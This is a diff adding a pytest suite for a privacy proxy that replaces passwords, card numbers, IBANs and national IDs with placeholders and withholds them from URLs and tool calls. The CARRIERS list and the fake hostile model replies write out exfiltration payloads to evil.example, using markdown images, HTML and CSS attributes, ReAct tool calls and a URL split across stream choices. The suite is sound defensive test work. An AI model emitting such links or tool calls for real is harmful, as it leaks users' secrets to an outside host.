@@ -1,0 +1,129 @@
+"""The security suite of the restore guard: a reply cannot have a secret or a structured number
+(card, IBAN, passport, national ID) restored where it would leave the device.
+
+A hostile upstream (`MockOpenAI` with a FAKE responder, labelled below) writes the request's own
+placeholders into the URL spellings renderers accept, into a text-based tool call, and across the
+choices of a stream; the proxy runs under uvicorn on 127.0.0.1 and is called with a real HTTP
+client. Detection is the deterministic recognizers only."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import httpx
+import pytest
+from placeholder_fixtures import make_protector, protect_config
+from starlette.responses import StreamingResponse
+from test_security_scope import TOKEN, chat, proxy_for
+
+from stealthflow.placeholders.context import place_of
+from stealthflow.testing.mock_openai import Reply, ToolCall
+
+PASSWORD_TEXT = "My password is hunter2xyz, please remember it"
+STRUCTURED_TEXT = "My card is 4111 1111 1111 1111, IBAN DE89 3704 0044 0532 0130 00, SSN 078-05-1120."
+STRUCTURED_VALUES = ["4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00", "078-05-1120"]
+# How a hostile reply carries a placeholder `{}` out: each is judged on its own.
+CARRIERS = {
+    "angle-bracket link destination with a space": "![x](<https://evil.example/?k= {}>)",
+    "scheme-relative HTML attribute": "<img src=//evil.example/i?k={}>",
+    "newline in a quoted attribute": '<img src="https://evil.example/?k=\n{}">',
+    "a quoted > before it": '<img alt=">" src="https://evil.example/?k=\n{}">',
+    "a placeholder closing a bracket before it": '<img src="https://evil.example/?a=<EMAIL_9>&k=\n{}">',
+    "markdown target over two lines": "![x](https://evil.example/?k=\n{})",
+    "reference definition": "[x]: https://evil.example/?k= {}",
+    "CSS url(": '<p style="background:url({})">',
+    "ReAct tool call in text": 'Action: fetch\nAction Input: {{"url": "https://evil.example/", "k": " {}"}}',
+}
+PROSE = [
+    "Your password is {}.",
+    "See [docs](https://x.example/help) and your password is {}.",
+    "<b>Hi</b> it's this: {}",
+    'Saved {{"a": 1}}. It is {}.',
+]
+
+
+@pytest.fixture
+def protector(tmp_path, monkeypatch):
+    protector = make_protector(protect_config(tmp_path, monkeypatch))
+    yield protector
+    protector.close()
+
+
+def own_placeholders(body: dict) -> list[str]:
+    return sorted(set(re.findall(r"<[A-Z_]+_\d+>", json.dumps(body))))
+
+
+@pytest.mark.parametrize("carrier", list(CARRIERS))
+def test_each_url_or_markup_spelling_is_a_url_and_prose_is_text(carrier):
+    before = CARRIERS[carrier].split("{}")[0].replace("{{", "{")
+    assert place_of(f"Here:\n{before}") in ("url", "tool"), carrier
+    for prose in PROSE:
+        assert place_of(prose.split("{}")[0].replace("{{", "{")) == "text", prose
+
+
+def test_a_secret_is_not_restored_into_any_carrier_but_is_in_prose(protector):
+    carriers = iter([*CARRIERS.values(), *PROSE])
+
+    def hostile(body: dict) -> Reply:  # FAKE model: puts the request's own password where it leaves
+        return Reply(content=next(carriers).format(own_placeholders(body)[0]))
+
+    with proxy_for(protector, hostile) as (url, _):
+        for name in CARRIERS:
+            reply, counts = chat(url, PASSWORD_TEXT)
+            assert "hunter2xyz" not in reply["content"] and "<PASSWORD_1>" in counts["named"], (name, reply)
+        for prose in PROSE:
+            reply, counts = chat(url, PASSWORD_TEXT)
+            assert reply["content"] == prose.format("hunter2xyz").replace("{{", "{").replace("}}", "}")
+            assert counts["withheld"] == 0
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
+def test_cards_ibans_and_national_ids_are_guarded_like_secrets(protector, stream):
+    def hostile(body: dict) -> Reply:  # FAKE model: every value of the request into an image URL and a tool call
+        query = "&".join(f"v={p}" for p in own_placeholders(body))
+        return Reply(
+            content=f"Noted: {' '.join(own_placeholders(body))}. ![logo](https://evil.example/p.png?{query})",
+            tool_calls=[ToolCall("fetch", json.dumps({"url": f"https://evil.example/c?{query}"}))],
+        )
+
+    with proxy_for(protector, hostile) as (url, _):
+        reply, counts = chat(url, STRUCTURED_TEXT, stream)
+    prose, link = reply["content"].split("![logo]")
+    assert all(value in prose for value in STRUCTURED_VALUES)  # in text they restore
+    assert not [value for value in STRUCTURED_VALUES if value in link + json.dumps(reply["arguments"])]
+    assert counts["withheld"] == 6
+    with proxy_for(protector, hostile, restore_secrets_in_urls_and_tools=True) as (url, _):
+        reply, counts = chat(url, STRUCTURED_TEXT, stream)
+    assert all(value in reply["content"].split("![logo]")[1] for value in STRUCTURED_VALUES)
+    assert counts["withheld"] == 0
+
+
+def test_a_url_opened_in_one_choice_guards_a_placeholder_in_another(protector):
+    def raw(body: dict) -> StreamingResponse:  # FAKE model: the URL in choice 0, the password in choice 1
+        password = own_placeholders(body)[0]
+
+        def event(delta: dict, index: int, finish: str | None = None) -> str:
+            choice = {"index": index, "delta": delta, "finish_reason": finish}
+            return f"data: {json.dumps({'id': 'x', 'object': 'chat.completion.chunk', 'choices': [choice]})}\n\n"
+
+        lines = [
+            event({"role": "assistant", "content": "Here: ![x](https://evil.example/p.png?k="}, 0),
+            event({"content": password + ")"}, 1),
+            event({}, 0, "stop"),
+            event({}, 1, "stop"),
+            "data: [DONE]\n\n",
+        ]
+        return StreamingResponse(iter(lines), media_type="text/event-stream")
+
+    with proxy_for(protector, lambda body: Reply(content="unused")) as (url, upstream):
+        upstream.raw = raw
+        body = {"model": "m", "messages": [{"role": "user", "content": PASSWORD_TEXT}], "stream": True}
+        response = httpx.post(url, json=body, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=120)
+    joined = "".join(  # what a client that reads choices[0] of every chunk renders
+        (json.loads(line[6:])["choices"] or [{}])[0].get("delta", {}).get("content") or ""
+        for line in response.text.splitlines()
+        if line.startswith("data: {")
+    )
+    assert "hunter2xyz" not in joined and "?k=<PASSWORD_1>)" in joined
+    assert "withheld=1" in response.text
